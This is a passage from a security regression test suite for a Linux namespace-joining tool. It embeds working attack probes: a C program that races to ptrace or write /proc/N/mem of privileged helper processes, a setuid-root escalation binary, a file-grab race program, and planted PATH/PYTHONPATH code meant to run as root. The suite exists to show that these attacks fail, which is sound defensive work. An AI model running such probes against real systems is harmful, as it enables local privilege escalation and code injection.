          const dest = `${dir}/b/${archive ? "a" : "plain"}`;
          await Deno.mkdir(dest);
          // Their own directory: cp writes only where their root could (stop 17).
          await Deno.chown(dest, user.uid, user.gid);
          await tarTo(theirs.pid, dest, tarFrom(hostile.pid, `${dir}/a/.`), { archive });
          assertEquals((await asUser(`${dest}/su`)).code, 1, "the user got CAP_SETUID");
          // Still a capability inside the user's namespaces, as setcap there makes it.
          const caps = await sh("nsenter", [
            "-t",
            String(theirs.pid),
            "-U",
            "-m",
            "--preserve-credentials",
            "getcap",
            `${dest}/su`,
          ]).catch((e) => String(e));
          assertMatch(caps, /cap_setuid[=+]ep/);
        });
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "review 3: forward never connects from the host's namespace (a remote host name)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // Deno.connect makes its socket synchronously only for an IP address: a name is looked up
    // first, on another thread, and the socket was made after the join ended — in the host's
    // net namespace. `remoteHost: "localhost"` reached a service on the host's loopback.
    const { forward } = await import("../src/forward.ts");
    await using target = await makeTarget({ flags: ["-n"], setup: "ip link set lo up" });
    const host = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const served = (async () => {
      for await (const c of host) {
        await c.write(new TextEncoder().encode("HOST SERVICE"));
        c.close();
      }
    })();
    try {
      const port = (host.addr as Deno.NetAddr).port;
      const reply = async (remoteHost: string) => {
        await using fwd = await forward(target.pid, { remote: port, local: 0, remoteHost });
        const c = await Deno.connect({ hostname: "127.0.0.1", port: fwd.local.port });
        try {
          const buf = new Uint8Array(64);
          const n = await c.read(buf).catch(() => null);
          return n === null ? "" : text(buf.subarray(0, n));
        } finally {
          c.close();
        }
      };
      // Nothing listens in the target: the connection is closed at once.
      assertEquals(await reply("127.0.0.1"), "");
      for (const name of ["127.1", "localhost"]) {
        const err = await reply(name).then((r) => r, (e) => e);
        assert(err !== "HOST SERVICE", `${name}: reached the host's service`);
        assert(err instanceof TypeError, `${name}: ${err}`);
        assertMatch(err.message, /give an IP address/);
      }
    } finally {
      host.close();
      await served;
    }
  },
});

Deno.test({
  name: "review 3: a UDP forward passes its client only the remote's datagrams",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // The socket inside is bound to 0.0.0.0: anything that reaches the target's addresses
    // (another container on its bridge; here, another port inside) could send to the
    // forward's client through it.
    const { forward } = await import("../src/forward.ts");
    await using target = await makeTarget({ flags: ["-n"], setup: "ip link set lo up" });
    // A server inside that answers once, so the relay's socket exists and has a port.
    const server = new NsCommand("/usr/bin/python3", {
      target: target.pid,
      namespaces: ["net"],
      args: [
        "-c",
        `import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 5353))
m, a = s.recvfrom(100); s.sendto(b"REAL", a)
o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); o.sendto(b"FORGED", a)`,
      ],
    }).spawn();
    await using fwd = await forward(target.pid, { remote: 5353, local: 0, protocol: "udp" });
    const dgram = (await import("node:dgram")).default;
    const client = dgram.createSocket("udp4");
    const got: string[] = [];
    client.on("message", (m) => got.push(text(m)));
    try {
      // The server may not be bound yet: send until it answers.
      for (let i = 0; i < 50 && got.length === 0; i++) {
        client.send("hi", fwd.local.port, "127.0.0.1");
        await new Promise((r) => setTimeout(r, 50));
      }
      await server.status;
      await new Promise((r) => setTimeout(r, 200));
      assertEquals(got, ["REAL"]);
    } finally {
      client.close();
    }
  },
});

Deno.test({
  name: "review 3: a container whose PID is now a host process is not joined (docker API answer)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    // The Docker API's State.Pid has no start time: the container may exit and its PID go
    // to a host process before it is pinned (or DOCKER_HOST names a user's rootless dockerd,
    // which answers what it likes). A fake daemon answers with a host process's PID: exec
    // must not run there — in the host's namespaces.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-fakedocker-" });
    const host = new Deno.Command("sleep", { args: ["60"] }).spawn();
    await using boxed = await makeTarget({ flags: ["-m", "-n"] });
    let pid = host.pid;
    const id = "f".repeat(64);
    const server = Deno.listen({ transport: "unix", path: `${dir}/docker.sock` });
    const serving = (async () => {
      for await (const conn of server) {
        await conn.read(new Uint8Array(4096));
        const body = JSON.stringify({
          Id: id,
          Name: "/fake",
          State: { Running: true, Pid: pid },
          Config: { Env: [], User: "", WorkingDir: "" },
        });
        await conn.write(new TextEncoder().encode(`HTTP/1.0 200 OK\r\n\r\n${body}`));
        conn.close();
      }
    })();
    const find = { dockerHost: `unix://${dir}/docker.sock`, sources: ["api"] as const };
    // As dockerd's systemd driver names it, on a hierarchy with a controller.
    const cgroup = `/sys/fs/cgroup/pids/nsjoin-r3-${
      crypto.randomUUID().slice(0, 8)
    }/docker-${id}.scope`;
    try {
      await t.step("a PID in our own mount namespace: refused", async () => {
        const err = await resolveContainer("docker:fake", find).then(
          (pinned) => (pinned.close(), undefined),
          (e) => e,
        );
        assert(err instanceof NamespaceError && err.code === "ESRCH", String(err));
      });
      await t.step(
        "a PID in namespaces of its own, outside the container's cgroups: refused (stop 22)",
        async () => {
          pid = boxed.pid;
          const err = await resolveContainer("docker:fake", find).then(
            (pinned) => (pinned.close(), undefined),
            (e) => e,
          );
          assert(err instanceof NamespaceError && err.code === "ESRCH", String(err));
        },
      );
      await t.step(
        "a PID in namespaces of its own, in a cgroup made for the container: taken",
        async () => {
          await Deno.mkdir(cgroup, { recursive: true });
          await Deno.writeTextFile(`${cgroup}/cgroup.procs`, String(boxed.pid));
          using pinned = await resolveContainer("docker:fake", find);
          assertEquals(pinned.pid, boxed.pid);
        },
      );
    } finally {
      await Deno.writeTextFile("/sys/fs/cgroup/pids/cgroup.procs", String(boxed.pid)).catch(
        () => {},
      );
      for (const dir of [cgroup, cgroup.replace(/\/[^/]+$/, "")]) {
        await Deno.remove(dir).catch(() => {});
      }
      server.close();
      await serving.catch(() => {});
      host.kill("SIGKILL");
      await host.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "review 3: exec joins a target's mount namespace only with its user namespace (a user's program ran as root)",
  ignore: NEEDS_ROOT,
  async fn() {
    // A local user's `unshare -Urm` namespaces (a rootless container) put their own program
    // over a path in their mount namespace. `exec -n mnt PID prog` ran it with our uid and,
    // as "the target's capabilities", every capability — outside the user namespace they
    // mean the host's. docker exec always joins the container's user namespace.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-mntonly-" });
    await Deno.chmod(dir, 0o777);
    await using theirs = await makeTarget({
      flags: ["-U", "-r", "-m"],
      user,
      setup: `mount -t tmpfs none ${dir} && printf '#!/bin/sh\\ncat /proc/self/uid_map\\n' > ` +
        `${dir}/prog && chmod 755 ${dir}/prog`,
    });
    const exec = (ns: string) =>
      new Deno.Command(Deno.execPath(), {
        args: ["run", "-A", CLI, "exec", "-n", ns, String(theirs.pid), `${dir}/prog`],
      }).output();
    try {
      const out = await exec("mnt");
      // The host's map: the program ran as our root.
      assert(!/^\s*0\s+0\s/.test(text(out.stdout)), "the user's program ran as our root");
      assertEquals(out.code, 2, text(out.stderr));
      assertMatch(text(out.stderr), /without its user namespace/);
      // With it, the program runs as the namespace's root: the user on the host.
      const ok = await exec("mnt,user");
      assertEquals(ok.code, 0, text(ok.stderr));
      assertMatch(text(ok.stdout), new RegExp(`^\\s*0\\s+${user.uid}\\s+1\\n`));
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "review 3: a process with a mount namespace of its own over the host's root is not a container (its PATH and environment)",
  ignore: NEEDS_ROOT,
  async fn(t) {
    // A service in a private mount namespace (systemd's PrivateTmp, ProtectSystem…) sees the
    // host's root. Compromised, its user sets its own PATH and PYTHONPATH to a directory of
    // theirs: joining its mount namespace is no container's filesystem, and root's
    // `exec PID python3` / `enter -a -e python3` ran the user's code as uid 0.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-service-" });
    await Deno.chmod(dir, 0o755);
    const mark = `${dir}/pwned`;
    await Deno.mkdir(`${dir}/user`);
    await Deno.chown(`${dir}/user`, user.uid, user.gid);
    await Deno.mkdir(`${dir}/user/bin`);
    await Deno.writeTextFile(
      `${dir}/user/bin/python3`,
      `#!/bin/sh\n[ "$(id -u)" = 0 ] && : > ${mark}\nexit 0\n`,
    );
    await Deno.chmod(`${dir}/user/bin/python3`, 0o755);
    await Deno.writeTextFile(
      `${dir}/user/sitecustomize.py`,
      `import os\nif os.getuid() == 0: open(${JSON.stringify(mark)}, "w")\n`,
    );
    const service = new Deno.Command("unshare", {
      args: [
        "-m",
        "setpriv",
        `--reuid=${user.uid}`,
        `--regid=${user.gid}`,
        "--clear-groups",
        "env",
        `PATH=${dir}/user/bin:/usr/bin:/bin`,
        `PYTHONPATH=${dir}/user`,
        "sleep",
        "60",
      ],
    }).spawn();
    const cli = (...args: string[]) =>
      new Deno.Command(Deno.execPath(), { args: ["run", "-A", CLI, ...args] }).output();
    const pwned = () => Deno.remove(mark).then(() => true, () => false);
    try {
      for (let i = 0; i < 100; i++) {
        if ((await Deno.readTextFile(`/proc/${service.pid}/cmdline`)).startsWith("sleep")) break;
        await new Promise((r) => setTimeout(r, 20));
      }
      const pid = String(service.pid);
      await t.step("exec PID python3: our python, our PATH", async () => {
        const out = await cli("exec", pid, "python3", "-c", "pass");
        assertEquals(out.code, 0, text(out.stderr));
        assertEquals(await pwned(), false, "the user's code ran as root");
      });
      await t.step("enter -a -e python3", async () => {
        const out = await cli("enter", "-t", pid, "-a", "-e", "/usr/bin/python3", "-c", "pass");
        assertEquals(out.code, 0, text(out.stderr));
        assertEquals(await pwned(), false, "the user's code ran as root");
      });
    } finally {
      service.kill("SIGKILL");
      await service.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "review 3: cp -a out of a target keeps owners but no setuid, setgid or capability (a user's namespaces made a root setuid program)",
  ignore: NEEDS_ROOT,
  async fn() {
    // In a local user's `unshare -Urm` namespaces (a rootless container) the user is root:
    // they chmod 4755 a program of theirs, owned by their namespace's root. `cp -a` keeps
    // owners as ids inside the target: on the host the copy was root's, setuid, and the
    // user's program gave them uid 0.
    const { copyFrom } = await import("../src/copy.ts");
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-cpsuid-" });
    await Deno.chmod(dir, 0o755);
    await Deno.mkdir(`${dir}/a`);
    await Deno.writeTextFile(
      `${dir}/su.c`,
      "#include <unistd.h>\nint main(void){return setuid(0) == 0 ? 0 : 1;}",
    );
    const cc = await new Deno.Command("gcc", { args: ["-o", `${dir}/su`, `${dir}/su.c`] }).output();
    assertEquals(cc.code, 0, text(cc.stderr));
    await using theirs = await makeTarget({
      flags: ["-U", "-r", "-m"],
      user,
      setup: `mount -t tmpfs none ${dir}/a && cp ${dir}/su ${dir}/a/su && chmod 4755 ${dir}/a/su` +
        ` && setcap cap_setuid+ep ${dir}/a/su 2>/dev/null; true`,
    });
    try {
      await copyFrom(theirs.pid, `${dir}/a/su`, `${dir}/out`, { archive: true });
      const st = await Deno.stat(`${dir}/out`);
      // The owner is kept as the target names it (its root), as docker cp -a does.
      assertEquals(st.uid, 0);
      const run = await new Deno.Command("setpriv", {
        args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", `${dir}/out`],
      }).output();
      assertEquals(run.code, 1, "the user's program ran as root");
      assertEquals(st.mode! & 0o7000, 0);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- issue 9: the forked child is born unprivileged

/**
 * A container process with CAP_SYS_PTRACE in the initial user namespace (rootful docker,
 * `--cap-add SYS_PTRACE`) may ptrace and open /proc/N/{mem,root} of a non-dumpable task
 * (kernel/ptrace.c __ptrace_may_access: non-dumpable tasks need CAP_SYS_PTRACE over the
 * task's mm->user_ns, the initial one for the helper). It watches ns_last_pid and /proc for
 * every new process, and for each helper child it reaches before that child exec'd the
 * program (its cmdline is still the helper's, before and after the probe) it records whether
 * it could open /proc/N/mem for writing or PTRACE_SEIZE it (code injection), and whether the
 * child then held a capability outside the attacker's own bounding set, had the host's root
 * directory as its root (argv: its st_dev and st_ino) or ran without the seccomp filter the
 * attacker has (each an escalation). SIGTERM ends it; it prints counts.
 */
const BIRTH_ATTACKER_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
static unsigned long long hostdev, hostino, mybnd, myseccomp;
static long reached, mem_opened, seized, cap_escalations, root_escalations, filter_escalations,
  probes, passes, unseen, other;
static unsigned char done[4194304 / 8];
#define GET(p) (done[(p) >> 3] & (1 << ((p) & 7)))
#define SET(p) (done[(p) >> 3] |= (unsigned char)(1 << ((p) & 7)))

/* 1: a helper before its execve; 0: something else; -1: not (yet) in /proc. */
static int is_helper(int pid) {
  char p[64], buf[8192];
  snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 0;
  buf[n] = 0;
  if (strncmp(buf, "/proc/self/fd/", 14) != 0 && !strstr(buf, "nsjoin-helper")) return 0;
  for (ssize_t i = 0; i + 3 < n; i++)
    if (buf[i] == 0 && buf[i + 1] == '-' && buf[i + 2] == '-' && buf[i + 3] == 0) return 1;
  return 0;
}

static unsigned long long status_hex(const char *file, const char *key) {
  char buf[4096];
  int fd = open(file, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 0;
  buf[n] = 0;
  char *p = strstr(buf, key);
  return p ? strtoull(p + strlen(key), 0, 16) : 0;
}

static void probe(int pid) {
  int h = -1;
  /* A PID is counted in ns_last_pid a moment before its task shows in /proc: a few hundred
   * tries cover that; more left the attacker behind every child after one that was gone. */
  for (int i = 0; i < 300 && h < 0 && !stop; i++) h = is_helper(pid);
  if (h != 1) { if (h < 0) unseen++; else other++; return; }
  SET(pid);
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/mem", pid);
  int mem = open(p, O_RDWR | O_CLOEXEC);
  snprintf(p, sizeof p, "/proc/%d/status", pid);
  unsigned long long caps = status_hex(p, "CapEff:\t") | status_hex(p, "CapPrm:\t");
  unsigned long long filtered = status_hex(p, "Seccomp:\t");
  struct stat st;
  snprintf(p, sizeof p, "/proc/%d/root/", pid);
  int host_root = stat(p, &st) == 0 && st.st_dev == hostdev && st.st_ino == hostino;
  int traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
  if (traced) {
    int ws;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) waitpid(pid, &ws, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  if (is_helper(pid) != 1) { if (mem >= 0) close(mem); return; } /* exec'd meanwhile */
  reached++;
  if (mem >= 0) mem_opened++;
  if (traced) seized++;
  if ((mem >= 0 || traced) && (caps & ~mybnd)) cap_escalations++;
  if (host_root) root_escalations++;
  if ((mem >= 0 || traced) && filtered < myseccomp) filter_escalations++;
  if (mem >= 0) close(mem);
}

int main(int argc, char **argv) {
  hostdev = strtoull(argv[1], 0, 10);
  hostino = strtoull(argv[2], 0, 10);
  mybnd = status_hex("/proc/self/status", "CapBnd:\t");
  myseccomp = status_hex("/proc/self/status", "Seccomp:\t");
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1;
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now && pid < 4194304; pid++) { probes++; probe((int)pid); }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
    if (++passes % 64) continue;
    /* A child whose PID was missed (the counter wrapped, several at once): rescan /proc. */
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid > 1 && pid < 4194304 && !GET(pid)) probe(pid);
    }
    if (d) closedir(d);
  }
  printf("{\"passes\":%ld,\"probes\":%ld,\"reached\":%ld,\"memOpened\":%ld,\"seized\":%ld,"
         "\"capEscalations\":%ld,\"rootEscalations\":%ld,\"filterEscalations\":%ld,"
         "\"unseen\":%ld,\"other\":%ld}\n",
         passes, probes, reached, mem_opened, seized, cap_escalations, root_escalations,
         filter_escalations, unseen, other);
  fflush(stdout);
  return 0;
}
`;

interface BirthAttack {
  passes: number;
  probes: number;
  reached: number;
  memOpened: number;
  seized: number;
  capEscalations: number;
  rootEscalations: number;
  filterEscalations: number;
}

/** The attacker's counts, once SIGTERM made it print them as its last stdout line. */
function birthAttack(stdout: string): BirthAttack {
  const lines = stdout.trim().split("\n");
  return JSON.parse(lines[lines.length - 1]) as BirthAttack;
}

/** Asserts the attack was live (it reached helper children) and never escalated. */
function assertHarmless(attack: BirthAttack): void {
  console.log(JSON.stringify(attack));
  // Reaching a child before its execve is allowed now: it holds what the target holds.
  assert(attack.reached > 0 && attack.memOpened + attack.seized > 0, JSON.stringify(attack));
  assertEquals(
    {
      caps: attack.capEscalations,
      hostRoot: attack.rootEscalations,
      filter: attack.filterEscalations,
    },
    { caps: 0, hostRoot: 0, filter: 0 },
    JSON.stringify(attack),
  );
}

async function compileBirthAttacker(dir: string): Promise<string> {
  await Deno.writeTextFile(`${dir}/birth.c`, BIRTH_ATTACKER_C);
  const cc = await new Deno.Command("gcc", {
    args: ["-static", "-O2", "-o", `${dir}/birth`, `${dir}/birth.c`],
    stderr: "piped",
  }).output();
  assert(cc.success, text(cc.stderr));
  return `${dir}/birth`;
}

// A child that stays longer before its execve (it tries 40000 PATH entries first, some ms):
// the attacker reaches it even on a busy machine, so the attack is shown to be live.
const SLOW_PATH = `PATH=${"/n:".repeat(40000)}/bin`;

Deno.test({
  name: "a container with CAP_SYS_PTRACE never reaches a helper child holding more than it",
  ignore: NEEDS_ROOT || (!HAVE_DOCKER && !CI),
  sanitizeResources: false,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-birth-" });
    try {
      await compileBirthAttacker(dir);
      const host = Deno.statSync("/");
      // docker's default (the filter is installed before the capabilities are dropped) and
      // no-new-privileges (after them).
      for (const opt of [[], ["--security-opt", "no-new-privileges"]]) {
        await t.step(`docker run --cap-add SYS_PTRACE ${opt.join(" ")}`, async () => {
          const name = `nsjoin-birth-${crypto.randomUUID().slice(0, 8)}`;
          try {
            const start = await new Deno.Command("docker", {
              args: ["run", "-d", "--name", name, "--cap-add", "SYS_PTRACE", ...opt]
                .concat(["-v", `${dir}:/atk:ro`, DOCKER_IMAGE, "/atk/birth"])
                .concat([String(host.dev), String(host.ino)]),
              stdout: "piped",
              stderr: "piped",
            }).output();
            assert(start.success, text(start.stderr));
            const logs = async () =>
              text(
                (await new Deno.Command("docker", { args: ["logs", name], stderr: "null" })
                  .output()).stdout,
              );
            for (let i = 0; i < 100 && !(await logs()).includes("ready"); i++) {
              await new Promise((r) => setTimeout(r, 50));
            }
            const codes = new Map<string, number[]>();
            const record = (what: string, code: number) =>
              codes.set(what, [...codes.get(what) ?? [], code]);
            {
              using c = await resolveContainer(`docker:${name}`);
              const run = async (what: string, o: Parameters<typeof containerExecOptions>[1]) =>
                record(
                  what,
                  (await new NsCommand("true", containerExecOptions(c, o)).output()).code,
                );
              // Slow children first, while the attacker is not behind yet: each child that is
              // gone before it gets to it costs it thousands of retries, and on a loaded
              // machine (CI) the quick ones below left it behind for the rest of the run.
              for (let i = 0; i < 8; i++) await run("exec, long PATH", { env: [SLOW_PATH] });
              for (let i = 0; i < 40; i++) {
                await run("exec", {});
                await run("exec -u 1000", { user: "1000" });
              }
              for (let i = 0; i < 5; i++) await run("exec -t", { tty: true });
              for (let i = 0; i < 8; i++) await run("exec, long PATH", { env: [SLOW_PATH] });
            }
            for (let i = 0; i < 4; i++) {
              const out = await new Deno.Command(Deno.execPath(), {
                args: ["run", "-A", "--quiet", "--no-lock", CLI, "debug", `docker:${name}`]
                  .concat(["--", "true"]),
                stdin: "null",
                stdout: "null",
                stderr: "piped",
              }).output();
              record("debug", out.code);
              assertEquals(out.code, 0, text(out.stderr));
            }
            await new Deno.Command("docker", { args: ["kill", "-s", "TERM", name], stdout: "null" })
              .output();
            await new Deno.Command("docker", { args: ["wait", name], stdout: "null" }).output();
            for (const [what, list] of codes) assertEquals(new Set(list), new Set([0]), what);
            assertHarmless(birthAttack(await logs()));
          } finally {
            await new Deno.Command("docker", {
              args: ["rm", "-f", name],
              stdout: "null",
              stderr: "null",
            }).output();
          }
        });
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "a pid namespace whose root holds only CAP_SYS_PTRACE never reaches a helper child above it",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-birth-" });
    try {
      const attacker = await compileBirthAttacker(dir);
      // Its init: root with CAP_SYS_PTRACE alone (bounding set, so execve keeps no other).
      // The root directory is the host's here: 0 0 turns that check off.
      const target = new Deno.Command("unshare", {
        args: ["-p", "--fork", "--mount-proc", "setpriv", "--bounding-set=-all,+sys_ptrace"]
          .concat(["--inh-caps=-all", attacker, "0", "0"]),
        stdin: "null",
        stdout: "piped",
        stderr: "inherit",
      }).spawn();
      const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
      let out = "";
      while (!out.includes("ready\n")) {
        const { value, done } = await reader.read();
        if (done) throw new Error("the attacker did not start");
        out += value;
      }
      const pid = Number(Deno.readTextFileSync(`/proc/${target.pid}/task/${target.pid}/children`));
      try {
        const codes = new Set<number>();
        for (let i = 0; i < 60; i++) {
          const o = { target: pid, capabilities: "target" as const };
          codes.add((await new NsCommand("true", o).output()).code);
          if (i % 10 === 0) {
            codes.add((await new NsCommand("true", { ...o, tty: true }).output()).code);
            codes.add(
              (await new NsCommand("true", { ...o, env: { PATH: SLOW_PATH.slice(5) } }).output())
                .code,
            );
          }
        }
        assertEquals([...codes], [0]);
      } finally {
        Deno.kill(pid, "SIGTERM");
      }
      for (;;) {
        const { value, done } = await reader.read();
        if (done) break;
        out += value;
      }
      await target.status;
      assertHarmless(birthAttack(out));
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- issue 9: review 4

/** CPU seconds (user + system) this process has used. */
function cpuSeconds(): number {
  const fields = Deno.readTextFileSync("/proc/self/stat").split(") ")[1].split(" ");
  return (Number(fields[11]) + Number(fields[12])) / 100;
}

Deno.test({
  name: "review 4: a forward whose target stops reading small segments does not spin",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // Each spliced segment takes a slot of the relay's pipe however small it is: 256 slots of
    // 200 bytes filled the pipe at 50 KB of its 1 MB, splice then said EAGAIN, and the
    // relay polled the client's socket (readable, its pipe "not full") again at once, for
    // ever: a server inside that stops reading made the host burn a core per connection.
    const { forward } = await import("../src/forward.ts");
    const { scopedJoin } = await import("../src/scoped.ts");
    await using target = await makeTarget({ flags: ["-n"], setup: "ip link set lo up" });
    // A listener inside whose connection is never accepted: the kernel takes bytes into its
    // receive buffer, then stops, as a server that never reads.
    const join = scopedJoin(`/proc/${target.pid}/ns/net`, ["net"]);
    let inside: Deno.Listener;
    try {
      inside = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    } finally {
      join[Symbol.dispose]();
    }
    try {
      const remote = (inside.addr as Deno.NetAddr).port;
      await using fwd = await forward(target.pid, { remote, local: 0 });
      const c = await Deno.connect({ hostname: "127.0.0.1", port: fwd.local.port });
      try {
        // A little less than the relay's socket inside takes in (tcp_wmem's maximum), in
        // large writes, so that it is small segments that meet the pipe once it is full.
        const wmem = Number(Deno.readTextFileSync("/proc/sys/net/ipv4/tcp_wmem").split(/\s+/)[2]);
        const large = Math.floor((wmem - (512 << 10)) / 65536);
        for (let i = 0; i < large; i++) await c.write(new Uint8Array(65536));
        for (let i = 0; i < 12000; i++) {
          await c.write(new Uint8Array(200));
          if (i % 50 === 0) await new Promise((r) => setTimeout(r, 1));
        }
        const before = cpuSeconds();
        await new Promise((r) => setTimeout(r, 2000));
        const used = cpuSeconds() - before;
        // Idle: ~0.01 s. Spinning: ~1.9 s alone, still >= 0.5 s on a loaded 2-core machine.
        assert(used < 0.3, `the relay used ${used} s of CPU in 2 s with nothing to move`);
      } finally {
        c.close();
      }
    } finally {
      inside.close();
    }
  },
});

/**
 * Opens argv[1] as soon as it exists, as a user who is only in the group of the directory it
 * is made in; once stdin closes, reads it whole and prints how many bytes it got (-1: it was
 * refused).
 */
const GRAB_C = String.raw`
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
  (void)argc;
  printf("ready\n");
  fflush(stdout);
  int fd = -1;
  /* Until it exists: once it refuses us (EACCES), we lost. */
  for (long i = 0; i < 200000000L && fd < 0; i++) {
    fd = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (fd < 0 && errno != ENOENT) break;
  }
  char b[65536];
  while (read(0, b, sizeof b) > 0) {}
  long total = 0, n;
  while (fd >= 0 && (n = read(fd, b, sizeof b)) > 0) total += n;
  printf("%ld\n", fd < 0 ? -1L : total);
  return 0;
}
`;

Deno.test({
  name: "review 4: cp into a setgid directory gives its group nothing of a file it may not read",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // A file that keeps our owner is made with its final bits (0640 here); in a setgid
    // directory of the target's it was made with that directory's group, and that group's
    // members opened it before the chown to root:root and read all that was copied in.
    const { copyTo } = await import("../src/copy.ts");
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sgid-" });
    try {
      await Deno.chmod(dir, 0o755);
      await Deno.writeTextFile(`${dir}/grab.c`, GRAB_C);
      const cc = await new Deno.Command("gcc", {
        args: ["-O2", "-o", `${dir}/grab`, `${dir}/grab.c`],
      })
        .output();
      assert(cc.success, text(cc.stderr));
      const group = 40000 + Math.floor(Math.random() * 20000);
      await Deno.mkdir(`${dir}/shared`);
      await Deno.chown(`${dir}/shared`, 0, group);
      await Deno.chmod(`${dir}/shared`, 0o2770);
      await Deno.writeFile(`${dir}/secret`, new Uint8Array(64 << 20).fill(7));
      await Deno.chmod(`${dir}/secret`, 0o640);
      // The target shares the host's root: the path is the same inside.
      await using target = await makeTarget({ flags: ["-m"] });
      const grab = new Deno.Command("setpriv", {
        args: [`--reuid=${group + 1}`, `--regid=${group}`, "--clear-groups"]
          .concat([`${dir}/grab`, `${dir}/shared/secret`]),
        stdin: "piped",
        stdout: "piped",
      }).spawn();
      const lines = grab.stdout.pipeThrough(new TextDecoderStream()).getReader();
      assertEquals((await lines.read()).value, "ready\n");
      await copyTo(target.pid, `${dir}/secret`, `${dir}/shared/secret`);
      await grab.stdin.close();
      let out = "";
      for (let r = await lines.read(); !r.done; r = await lines.read()) out += r.value;
      await grab.status;
      const st = await Deno.stat(`${dir}/shared/secret`);
      assertEquals([st.uid, st.gid, st.mode! & 0o7777, st.size], [0, 0, 0o640, 64 << 20]);
      // Opened (the file was there to open) but empty: the one it held was made again.
      assert(Number(out) <= 0, `the directory's group read ${out.trim()} bytes of the copy`);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "review 4: the helper that relays as the target's user stays non-dumpable (suid_dumpable=1)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // setuid makes a process dumpable again when fs.suid_dumpable is 1 (kernel/cred.c
    // commit_creds): the helper that forks into the target's pid namespace and relays then
    // belonged to the target's user, who could open its /proc/PID/fd (the caller's terminal
    // and error pipe) and ptrace it and, before its execve, the child.
    const knob = "/proc/sys/fs/suid_dumpable";
    const saved = (await Deno.readTextFile(knob)).trim();
    await using target = await makeTarget();
    const uid = 40000 + Math.floor(Math.random() * 20000);
    await Deno.writeTextFile(knob, "1");
    try {
      const child = new NsCommand("sleep", {
        args: ["3"],
        target: target.pid,
        uid,
        gid: uid,
        stdout: "null",
      }).spawn();
      try {
        const children = `/proc/${child.pid}/task/${child.pid}/children`;
        while ((await Deno.readTextFile(children)).trim() === "") {
          await new Promise((r) => setTimeout(r, 10));
        }
        const peek = await new Deno.Command("setpriv", {
          args: [`--reuid=${uid}`, `--regid=${uid}`, "--clear-groups"]
            .concat(["readlink", `/proc/${child.pid}/fd/0`]),
          stdout: "piped",
          stderr: "null",
        }).output();
        assert(!peek.success, `the target's user read the helper's fd 0: ${text(peek.stdout)}`);
        assertEquals((await Deno.stat(`/proc/${child.pid}/fd`)).uid, 0);
      } finally {
        child.kill("SIGKILL");
        await child.status;
      }
    } finally {
      await Deno.writeTextFile(knob, saved);
    }
  },
});

Deno.test({
  name: "review 4: forward refuses an IPv4 address with an octet past 255 (no wrap to 0.0.0.0)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // The sockets of forward are FFI: the address was written byte by byte, and 256 wrapped
    // to 0 — `0.0.0.256:8080:80` listened on every interface of the host, `127.0.0.256` on
    // 127.0.0.0.
